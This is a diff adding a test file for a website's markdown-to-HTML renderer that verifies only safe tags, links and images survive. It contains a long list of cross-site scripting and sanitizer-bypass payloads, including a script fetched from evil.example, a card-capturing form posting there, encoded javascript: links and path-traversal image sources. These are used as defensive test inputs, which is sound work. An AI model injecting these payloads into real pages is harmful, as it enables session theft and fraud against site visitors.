@@ -1,0 +1,240 @@
+import { expect, test } from 'vitest'
+import { renderMarkdown } from './markdown.server.ts'
+
+type Tag = { name: string; attributes: Record<string, string> }
+
+/** Reads HTML by a grammar narrower than a browser's: whatever is not a plain tag or plain text fails. */
+function tagsOf(html: string): Tag[] {
+  const grammar = /<\/[a-z][a-z0-9]*>|<([a-z][a-z0-9]*)((?: [a-z]+="[^"]*")*)>|[^<>]+|([\s\S])/g
+  const tags: Tag[] = []
+  for (const [whole, name, attributes, stray] of html.matchAll(grammar)) {
+    if (stray !== undefined && stray !== '>')
+      throw new Error(`Not plain HTML at ${JSON.stringify(whole)} in ${html}`)
+    if (!name) continue
+    const pairs = [...(attributes ?? '').matchAll(/ ([a-z]+)="([^"]*)"/g)]
+    tags.push({
+      name,
+      attributes: Object.fromEntries(pairs.map(([, key, value]) => [key, decode(value ?? '')])),
+    })
+  }
+  return tags
+}
+
+function decode(text: string): string {
+  return text
+    .replace(/&#x([0-9a-f]+);/gi, (_, code) => String.fromCodePoint(Number.parseInt(code, 16)))
+    .replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
+    .replace(/&(quot|lt|gt|amp);/g, (_, name) => ({ quot: '"', lt: '<', gt: '>' })[name as string] ?? '&')
+}
+
+const attributesOf: Record<string, string[]> = {
+  a: ['href', 'rel', 'id'],
+  img: ['src', 'alt', 'loading', 'decoding'],
+  ol: ['start'],
+  ...Object.fromEntries(['h2', 'h3', 'h4', 'li'].map((name) => [name, ['id']])),
+  ...Object.fromEntries(['th', 'td'].map((name) => [name, ['align']])),
+  ...Object.fromEntries(
+    'p ul blockquote hr br strong em del sup code pre table thead tbody tr'
+      .split(' ')
+      .map((name) => [name, []]),
+  ),
+}
+
+function expectHarmless(html: string): void {
+  for (const { name, attributes } of tagsOf(html)) {
+    expect(attributesOf, `<${name}> in ${html}`).toHaveProperty(name)
+    for (const key of Object.keys(attributes))
+      expect(attributesOf[name], `${key} of <${name}> in ${html}`).toContain(key)
+    if (name === 'a') expectHarmlessLink(attributes.href ?? '', attributes.rel)
+    if (name === 'img') expect(attributes.src).toMatch(/^\/images\/[a-z0-9/_-]+\.(avif|webp|jpeg)$/)
+    if (attributes.id !== undefined) expect(attributes.id).toMatch(/^(section|note)-/)
+  }
+}
+
+function expectHarmlessLink(href: string, rel: string | undefined): void {
+  // The browser's own reading of the address decides, not its spelling.
+  const url = new URL(href, 'https://site.example/blog/1')
+  expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(url.protocol)
+  if (url.origin !== 'https://site.example') expect(rel).toBe('noopener nofollow')
+}
+
+const hostile = [
+  '<script>alert(1)</script>',
+  'text <script src=//evil.example/x.js></script> text',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC="javascript:alert(1)">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<style>body{background:url(javascript:alert(1))}</style>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<!-- --><script>alert(1)</script><!-- -->',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?><!DOCTYPE html><script>alert(1)</script>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](  javascript:alert(1)  )',
+  '[x](<javascript:alert(1)>)',
+  '[x](<java\tscript:alert(1)>)',
+  '[x](java&Tab;script:alert(1))',
+  '[x](java&NewLine;script:alert(1))',
+  '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))',
+  '[x](&#x6A&#x61;vascript:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](\u00a0javascript:alert(1))',
+  '[x](javascript%3Aalert(1))',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](feed:javascript:alert(1))',
+  '[x](view-source:https://evil.example)',
+  '[x](blob:https://site.example/1)',
+  '[x](file:///etc/passwd)',
+  '[x](//evil.example)',
+  '[x](/\\evil.example)',
+  '[x](/&Tab;/evil.example)',
+  '[x](\\\\evil.example)',
+  '[x](https://bank.example@evil.example/)',
+  '[x](https:evil.example)',
+  '[x][r]\n\n[r]: javascript:alert(1)',
+  '[x]\n\n[x]: <javascript:alert(1)> "title"',
+  '<javascript:alert(1)>',
+  '<data:text/html,hello>',
+  'www.evil.example/"onmouseover="alert(1)',
+  'https://evil.example/"><script>alert(1)</script>',
+  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '![x](https://evil.example/track.png)',
+  '![x](//evil.example/track.png)',
+  '![x](/images/../api/session)',
+  '![x](/images/%2e%2e/api/session.webp)',
+  '![x](/images/a.svg)',
+  '![x](/images/a.webp?next=//evil.example)',
+  '![" onerror="alert(1)](/images/a.webp)',
+  '![<img src=x onerror=alert(1)>](/images/a.webp "onload=alert(1)")',
+  '[![x](javascript:alert(1))](javascript:alert(2))',
+  '[a[b[c](javascript:1)](javascript:2)](javascript:3)',
+  '## <img src=x onerror=alert(1)>',
+  '## "><script>alert(1)</script>',
+  '## cookie\n\n## constructor\n\n## __proto__\n\n## getElementById',
+  '`<script>alert(1)</script>`',
+  '```"><script>\n</code></pre><script>alert(1)</script>\n```',
+  '``` x onload=alert(1) class="a"\ncode\n```',
+  '| <script>alert(1)</script> | [x](javascript:1) |\n|:-:|-|\n| <td onclick=alert(1)> | ![x](data:,x) |',
+  '- [x] <input type=text autofocus onfocus=alert(1)>',
+  'Note[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
+  'Note[^"onclick=x]\n\n[^"onclick=x]: text',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
+  '\ufeff<script>\u2028alert(1)</script>',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '> <blockquote onclick=alert(1)>\n> [x](javascript:alert(1))',
+  '<x-element is="script" style="position:fixed" id="login">x</x-element>',
+]
+
+test.each(hostile)('%j becomes harmless', async (payload) => {
+  expectHarmless(await renderMarkdown(payload))
+  expectHarmless(await renderMarkdown(`- one\n- ${payload}\n\n> ${payload}\n\n**${payload}**`))
+})
+
+test('the check itself catches what it is for', () => {
+  const caught = [
+    '<script>x</script>',
+    '<p onclick="x">x</p>',
+    '<a href="javascript:x">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<a href=x>',
+    '<img src="https://e/x.png">',
+    '<h2 id="cookie">x</h2>',
+    '<!-- x -->',
+  ]
+  for (const html of caught) expect(() => expectHarmless(html)).toThrow()
+})
+
+test('an article keeps its structure', async () => {
+  const html = await renderMarkdown(
+    '# Costs\n\nSome *plain* and **strong** words.\n\n### The fees\n\n1. one\n2. two\n\n| Fee | GHS |\n|-|-:|\n| Stamp | 10 |\n\n> Said',
+  )
+  expect(html).toContain('<h2 id="section-costs">Costs</h2>')
+  expect(html).toContain('<h3 id="section-the-fees">The fees</h3>')
+  expect(html).toContain('<em>plain</em> and <strong>strong</strong>')
+  expect(html).toContain('<td align="right">10</td>')
+  expect(html).toContain('<blockquote>')
+})
+
+test('every heading lies between h2 and h4', async () => {
+  const html = await renderMarkdown('# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f')
+  expect(tagsOf(html).map((tag) => tag.name)).toEqual(['h2', 'h2', 'h3', 'h4', 'h4', 'h4'])
+})
+
+test('a link within the text reaches its heading', async () => {
+  const html = await renderMarkdown('[fees](#the-fees)\n\n## The fees')
+  const [link] = tagsOf(html).filter((tag) => tag.name === 'a')
+  const [heading] = tagsOf(html).filter((tag) => tag.name === 'h2')
+  expect(link?.attributes.href).toBe(`#${heading?.attributes.id}`)
+})
+
+test('a footnote reaches its note and comes back', async () => {
+  const links = tagsOf(await renderMarkdown('Text[^1]\n\n[^1]: Note')).filter(
+    (tag) => tag.attributes.id || tag.attributes.href,
+  )
+  for (const { attributes } of links.filter((tag) => tag.name === 'a')) {
+    expect(links.map((tag) => tag.attributes.id)).toContain(attributes.href?.slice(1))
+  }
+})
+
+test('links outside say so, links within the site do not', async () => {
+  const tags = tagsOf(
+    await renderMarkdown(
+      '[a](https://a.example) [b](/properties) [c](mailto:a@b.example) [d](tel:+233200000000)',
+    ),
+  )
+  expect(tags.filter((tag) => tag.name === 'a').map((tag) => tag.attributes)).toEqual([
+    { href: 'https://a.example', rel: 'noopener nofollow' },
+    { href: '/properties' },
+    { href: 'mailto:a@b.example', rel: 'noopener nofollow' },
+    { href: 'tel:+233200000000', rel: 'noopener nofollow' },
+  ])
+})
+
+test('our own pictures stay, others become their text', async () => {
+  const html = await renderMarkdown(
+    '![A house](/images/sample/house-01-640.webp) ![Elsewhere](https://e.example/x.png)',
+  )
+  expect(html).toContain(
+    '<img src="/images/sample/house-01-640.webp" alt="A house" loading="lazy" decoding="async">',
+  )
+  expect(html).toContain(' Elsewhere')
+})
+
+test.each([
+  ['a hundred thousand quotes', '>'.repeat(100_000)],
+  ['lists within lists', Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
+  ['a paragraph of unclosed links', '[a]('.repeat(50_000)],
+])('%s are refused at once', async (_name, text) => {
+  await expect(renderMarkdown(text)).rejects.toMatchObject({ kind: 'invalid', code: 'markdown.too_complex' })
+})
+
+test('rules and long articles are not mistaken for nesting', async () => {
+  await expect(renderMarkdown('- '.repeat(60))).resolves.toBe('<hr>')
+  await expect(
+    renderMarkdown(`${'A sentence of an article. '.repeat(40)}\n\n`.repeat(100)),
+  ).resolves.toContain('<p>')
+})
